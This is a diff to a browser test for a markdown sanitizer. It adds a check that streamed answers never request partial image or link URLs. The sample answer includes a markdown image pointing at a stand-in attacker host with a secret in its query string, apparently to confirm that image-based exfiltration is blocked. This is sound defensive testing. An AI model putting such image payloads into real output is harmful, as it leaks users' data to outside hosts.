@@ -113,6 +113,78 @@ try {
     return (performance.now() - t0) / 100;
   }, answerOfSize(20 * 1024));
 
+  // Streaming (issue 6): an answer streamed into the page through renderStream, one character
+  // per animation frame around its URLs, so the tail is shown at every partial state. Every
+  // request to the allowed image host must be for the complete URL, every <img src> and
+  // <a href> that ever enters the page must be complete, and the final DOM must equal a batch
+  // render of the whole answer.
+  const FULL_IMG = 'https://img.example.com/chart.png?d=SECRET-0123456789';
+  const FULL_LINK = 'https://docs.example.com/guide?step=2&ref=chat';
+  const streamedAnswer = [
+    '# Report\n\nHere is **the chart** you asked for:\n\n',
+    `![revenue chart](${FULL_IMG}) and a [guide](${FULL_LINK}).\n\n`,
+    '- one *item*\n- two `code`\n\n',
+    '![blocked](https://attacker.example/p.png?d=SECRET) done.\n',
+  ].join('');
+  const imageRequests = [];
+  page.on('request', (r) => { if (r.url().startsWith('https://img.example.com/')) imageRequests.push(r.url()); });
+  const beforeStream = stray.length;
+  const streamed = await page.evaluate(async ({ answer, policy, urls }) => {
+    const root = document.getElementById('stream');
+    const seen = { src: new Set(), href: new Set(), tails: 0 };
+    const note = (el) => {
+      for (const e of [el, ...el.querySelectorAll('img,a')]) {
+        if (e.getAttribute?.('src') != null) seen.src.add(e.getAttribute('src'));
+        if (e.tagName === 'A' && e.getAttribute('href') != null) seen.href.add(e.getAttribute('href'));
+      }
+    };
+    const observer = new MutationObserver((records) => {
+      for (const r of records) {
+        if (r.target.hasAttribute?.('data-safemark-tail')) seen.tails++;
+        for (const n of r.addedNodes) if (n.nodeType === 1) note(n);
+        if (r.type === 'attributes') note(r.target);
+      }
+    });
+    observer.observe(root, { childList: true, subtree: true, attributes: true, attributeFilter: ['src', 'href'] });
+    const frame = () => new Promise((resolve) => requestAnimationFrame(resolve));
+    // Chunks: one character at a time inside each URL (a frame after each), larger elsewhere.
+    async function* chunks() {
+      let i = 0;
+      while (i < answer.length) {
+        const inUrl = urls.some((u) => { const at = answer.indexOf(u); return i >= at - 2 && i < at + u.length + 1; });
+        const size = inUrl ? 1 : 7;
+        yield answer.slice(i, i + size);
+        i += size;
+        await frame();
+      }
+    }
+    const html = await window.safemark.renderStream(chunks(), root, policy);
+    await frame();
+    observer.disconnect();
+    const batch = new window.safemark.Sanitizer(policy).renderMarkdown(answer);
+    const tmp = document.createElement('div');
+    tmp.innerHTML = batch;
+    return {
+      html, batch, domEqual: root.innerHTML === tmp.innerHTML,
+      srcs: [...seen.src], hrefs: [...seen.href], tails: seen.tails,
+      finalImages: [...root.querySelectorAll('img')].map((i) => i.src),
+    };
+  }, { answer: streamedAnswer, policy: corpus.policies.allowlist, urls: [FULL_IMG, FULL_LINK] });
+  await page.waitForTimeout(500);
+  const partialImageRequests = imageRequests.filter((u) => u !== FULL_IMG);
+  const partialSrcs = streamed.srcs.filter((u) => u !== FULL_IMG);
+  const partialHrefs = streamed.hrefs.filter((u) => u !== FULL_LINK);
+  const streamStray = stray.slice(beforeStream);
+  console.log(`# streaming: ${streamedAnswer.length} chars, tail re-rendered ${streamed.tails} times; image requests ${imageRequests.length} (partial ${partialImageRequests.length}); src values seen ${streamed.srcs.length}, href values ${streamed.hrefs.length}`);
+  if (streamed.html !== streamed.batch) fail('streamed HTML differs from the batch render');
+  if (!streamed.domEqual) fail('streamed DOM differs from the batch render');
+  if (streamed.tails < 50) fail(`the tail was shown only ${streamed.tails} times: partial states not exercised`);
+  if (!imageRequests.includes(FULL_IMG)) fail('the allowed image was never requested (the check would be vacuous)');
+  if (partialImageRequests.length) fail(`requests for partial image URLs: ${partialImageRequests.slice(0, 5)}`);
+  if (partialSrcs.length || partialHrefs.length) fail(`partial URLs in the page: ${[...partialSrcs, ...partialHrefs].slice(0, 5)}`);
+  if (streamStray.length) fail(`requests while streaming: ${streamStray.slice(0, 5)}`);
+  if (JSON.stringify(streamed.finalImages) !== JSON.stringify([FULL_IMG])) fail(`final images ${streamed.finalImages}`);
+
   console.log(`# rendered ${result.rendered} documents in Chromium; ${result.benignElements} benign elements present`);
   console.log(`# requests to policy-allowed images: ${allowedImages}; other requests beyond the page's files: ${stray.length}; tripwires: ${tripped.length}; dialogs: ${dialogs}; popups: ${popups}; navigations: ${navigations.length - 1}`);
   console.log(`# Chromium: 20 KB answer rendered in ${ms.toFixed(3)} ms`);
@@ -129,6 +201,6 @@ try {
   await browser.close();
   server.close();
 }
-const checks = 9;
+const checks = 17;
 console.log(`browser: ${checks - failures} passed, ${failures} failed`);
 process.exit(failures ? 1 : 0);
